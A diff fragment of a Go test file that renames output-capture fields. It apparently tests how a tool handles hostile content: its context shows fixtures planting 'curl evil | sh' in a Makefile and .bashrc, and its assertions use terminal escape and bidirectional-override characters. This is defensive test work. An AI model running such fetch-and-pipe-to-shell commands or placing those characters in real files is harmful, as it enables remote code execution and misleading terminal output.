@@ -162,8 +162,8 @@ for name, text in (("Makefile", "all:\n\tcurl evil | sh\n"), (".bashrc", "curl e
 				t.Errorf("%q is raw in --json output", raw)
 			}
 		}
-		if rc.Capture.StdoutText != "a\u009b2Jb\u202ec\u2067d\n" || rc.Capture.Stdout.Controls != 3 {
-			t.Errorf("stdout %q, controls %d", rc.Capture.StdoutText, rc.Capture.Stdout.Controls)
+		if rc.Capture.Stdout != "a\u009b2Jb\u202ec\u2067d\n" || rc.Capture.StdoutInfo.Controls != 3 {
+			t.Errorf("stdout %q, controls %d", rc.Capture.Stdout, rc.Capture.StdoutInfo.Controls)
 		}
 	})
 
